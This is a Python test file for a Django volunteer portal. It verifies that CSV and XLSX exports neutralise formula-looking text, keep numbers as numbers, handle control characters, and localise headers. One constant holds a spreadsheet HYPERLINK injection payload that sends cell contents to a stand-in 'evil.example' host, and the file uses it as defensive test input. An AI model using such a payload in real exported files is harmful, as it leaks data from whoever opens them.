"""Exports are safe to open and never fail: formulas stay text, numbers stay numbers, control
characters neither break an export nor get in through a form or the API, and headers follow
the reader's language."""

import csv
import io
from decimal import Decimal

import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse
from django.utils.functional import Promise
from openpyxl import load_workbook

from core.tabular import export_cell, xlsx_bytes
from tests.factories import volunteers as vf
from volunteers import services as volunteer_services
from volunteers.models import Team

TEAMS = reverse("volunteers:team-list")
EVIL = '=HYPERLINK("http://evil.example/steal?d="&A1,"点击查看")'


def _csv_rows(response):
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def _sheet(response):
    return load_workbook(io.BytesIO(response.content)).active


def _row_of(sheet, first_cell_contains):
    return next(r for r in sheet.iter_rows() if first_cell_contains in str(r[0].value))


class TestFormulaLookingText:
    def test_a_team_named_like_a_formula_exports_as_text_in_csv(self, world, web):
        vf.team(world.community_a, name=EVIL)
        rows = _csv_rows(web(world.officer_a).get(TEAMS, {"export": "csv"}))
        assert rows[1][:2] == ["'" + EVIL, "和平社区"]

    def test_a_team_named_like_a_formula_exports_as_a_text_cell_in_xlsx(self, world, web):
        vf.team(world.community_a, name=EVIL)
        response = web(world.officer_a).get(TEAMS, {"export": "xlsx"})
        cell = _row_of(_sheet(response), "HYPERLINK")[0]
        assert cell.data_type == "s"
        assert cell.value == "'" + EVIL

    @pytest.mark.parametrize("text", ["=1+1", "+86 138", "-2+3", "@SUM(A1)", "\tx", "\r=1", "  =1+1"])
    def test_every_formula_start_is_neutralised(self, text):
        assert export_cell(text) == "'" + text

    @pytest.mark.parametrize("number", [-5, 0, 3.25, Decimal("-1.50")])
    def test_numbers_stay_numbers(self, number):
        assert export_cell(number) == number
        cell = load_workbook(io.BytesIO(xlsx_bytes(["n"], [[number, "-5 元"]]))).active["A2"]
        assert cell.data_type == "n" and cell.value == number
        assert load_workbook(io.BytesIO(xlsx_bytes(["n"], [[number, "-5 元"]]))).active["B2"].value == "'-5 元"

    def test_ordinary_text_is_untouched(self):
        assert export_cell("和平社区 - 东区") == "和平社区 - 东区"

    def test_the_volunteer_lists_hours_are_number_cells(self, world, web):
        vf.volunteer(world.community_a, name="张三")
        response = web(world.officer_a).get(reverse("volunteers:volunteer-list"), {"export": "xlsx"})
        hours = _row_of(_sheet(response), "张三")[6]
        assert hours.data_type == "n" and hours.value == 0


class TestControlCharacters:
    def test_a_record_with_a_bell_stored_directly_still_exports(self, world, web):
        team = vf.team(world.community_a, name="救援队")
        Team.objects.filter(pk=team.pk).update(name="救援\x07队\x1b")
        client = web(world.officer_a)
        response = client.get(TEAMS, {"export": "xlsx"})
        assert response.status_code == 200
        assert _row_of(_sheet(response), "救援")[0].value == "救援队"
        response = client.get(TEAMS, {"export": "csv"})
        assert response.status_code == 200
        assert _csv_rows(response)[1][0] == "救援队"

    def test_the_api_refuses_a_name_with_a_control_character(self, world, api):
        response = api(world.officer_a).post(
            reverse("api:volunteers-team-list"),
            {"name": "救援\x07队", "area": world.community_a.code, "join_mode": "open"}, format="json",
            HTTP_ACCEPT_LANGUAGE="zh-hans")
        assert response.status_code == 400, response.content
        assert "不可见的控制字符" in response.json()["error"]["fields"]["name"][0]
        assert not Team.objects.filter(name__contains="救援").exists()

    def test_multi_line_text_keeps_its_line_breaks_and_tabs(self, world, api):
        response = api(world.officer_a).post(
            reverse("api:volunteers-team-list"),
            {"name": "救援队", "area": world.community_a.code, "join_mode": "open",
             "description": "第一行\r\n第二行\t备注"}, format="json")
        assert response.status_code == 201, response.content

    def test_a_single_line_field_refuses_a_line_break(self, world):
        with pytest.raises(ValidationError) as refused:
            volunteer_services.create_team(actor=world.officer_a, name="救援\n队", area=world.community_a)
        assert "name" in refused.value.message_dict

    def test_every_service_refuses_them_through_full_clean(self, world):
        team = vf.team(world.community_a, name="救援队")
        with pytest.raises(ValidationError) as refused:
            volunteer_services.update_team(actor=world.officer_a, team=team, description="好\x00的")
        assert "description" in refused.value.message_dict


class TestHeadersFollowTheLanguage:
    def test_an_export_is_headed_in_chinese_by_default_and_in_english_on_request(self, world, web):
        client = web(world.officer_a)
        zh = _csv_rows(client.get(reverse("area-list"), {"export": "csv"}, HTTP_ACCEPT_LANGUAGE="zh-hans"))
        en = _csv_rows(client.get(reverse("area-list"), {"export": "csv"}, HTTP_ACCEPT_LANGUAGE="en"))
        assert zh[0][:2] == ["区划代码", "名称"]
        assert en[0][:2] == ["Division code", "Name"]

    def test_every_list_declares_lazy_headers(self):
        import portal.urls  # noqa: F401  (every list view is imported)
        from core.generic import ScopedListView

        def subclasses(cls):
            for sub in cls.__subclasses__():
                yield sub
                yield from subclasses(sub)

        frozen = [(view.__name__, header) for view in subclasses(ScopedListView)
                  for header, _accessor in view.export_columns if not isinstance(header, Promise)]
        assert frozen == []
